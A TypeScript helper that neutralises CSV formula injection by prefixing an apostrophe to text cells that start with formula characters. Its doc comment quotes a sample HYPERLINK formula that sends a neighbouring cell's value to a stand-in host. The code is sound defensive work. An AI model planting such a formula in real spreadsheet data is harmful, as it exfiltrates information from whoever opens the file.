/** First characters that make a spreadsheet read a cell as a formula (or, for tab and CR, hide one). */
const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * A text cell of a CSV meant for people, made safe to open in a spreadsheet: a cell that would
 * start a formula (`=`, `+`, `-`, `@`, tab, carriage return) gets a leading apostrophe, which
 * spreadsheets show as text. So a name like `=HYPERLINK("http://x.example/?"&A2,"click")`,
 * typed into the catalog by anyone with the token, is shown, never run, by whoever opens the
 * export. Numbers are left alone (a negative coordinate stays a number); machine-read files
 * (submissions, boxes CSVs) are not written through this.
 *
 * @param cell - the cell's value
 * @returns the value, text cells neutralised
 * @example
 * spreadsheetSafe('=1+1'); // "'=1+1"
 * spreadsheetSafe(-3);     // -3
 */
export function spreadsheetSafe<T>(cell: T): T | string {
  return typeof cell === 'string' && FORMULA_START.test(cell) ? `'${cell}` : cell;
}
